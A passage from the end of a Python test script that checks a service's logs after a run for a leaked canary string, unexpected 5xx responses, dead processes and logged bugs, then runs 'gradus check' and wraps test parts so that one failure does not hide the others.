        logs = [f for f in os.listdir(f"{desk.dir}/log") if "CANARY-7f3a91c0" in open(f"{desk.dir}/log/{f}", errors="replace").read()]
        report.check("canary: no log holds its text", not logs, logs)
    else:
        report.skip("the adversarial corpus", "not beside the project: give GRADUS_SHARED")
    desk.stop_worker()
    guarded(corpus_tamper)
    access = open(f"{desk.dir}/log/access.log", errors="replace").read()
    bad = [line for line in access.splitlines() if re.search(r'" 5(?!0[15] )\d\d ', line) and not re.search(r'"POST /login/ .*" 503 ', line)]
    report.check("no answer of 5xx, but for signing in without a directory", not bad, bad[:3])
    report.check("no process died", not desk.deaths(), desk.deaths())
    loud = [line for p in desk.programs() for line in open(f"{desk.dir}/log/{p}.log", errors="replace") if re.match(r"<[0-3]>", line) or "E_BUG" in line or "E_GRANT" in line]
    report.check("no program logged a bug", not loud, loud[:3])
    r = run(f"{os.environ['BIN']}/gradus", "check")
    report.check("gradus check is clean afterwards", r.returncode == 0, r.stdout[-500:] + r.stderr[-300:])
    report.end()


def guarded(part):
    try:
        part()
    except Exception as e:  # one part that breaks must not hide the others
        report.check(f"{part.__name__} ran to its end", False, f"{type(e).__name__}: {e}")


main()
